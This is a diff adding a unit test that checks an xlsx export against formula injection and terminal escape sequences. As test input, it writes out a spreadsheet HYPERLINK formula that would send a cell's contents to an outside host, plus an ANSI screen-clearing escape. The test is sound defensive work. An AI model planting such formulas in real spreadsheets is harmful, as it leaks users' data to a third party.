@@ -7,6 +7,7 @@ import re
 import string
 from html.parser import HTMLParser
 from pathlib import Path
+from types import SimpleNamespace
 
 import matplotlib.text
 import numpy as np
@@ -563,3 +564,15 @@ def test_the_workbook_explains_and_formats_its_columns(tmp_path, lang, sheet):
     assert table.column_dimensions["A"].width > len("current-policy")
     workbook.finish(tmp_path, shown)
     assert openpyxl.load_workbook(tmp_path / "table.xlsx").sheetnames == book.sheetnames
+
+
+def test_no_text_becomes_a_formula_and_none_stops_the_workbook(tmp_path):
+    shown = told()
+    source = '=HYPERLINK("http://example.org/?"&A1,"click")'
+    scenario = SimpleNamespace(name="mine", sources=[source, "a\x1b[2Jb", "اختبار 试验"])
+    write_xlsx(tmp_path / "table.xlsx", shown.summary, [scenario], RUN)
+    workbook.finish(tmp_path, shown)
+    book = openpyxl.load_workbook(tmp_path / "table.xlsx")
+    assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n"}
+    cells = [cell.value for sheet in book for row in sheet for cell in row]
+    assert {source, "a[2Jb", "اختبار 试验"} <= set(cells)
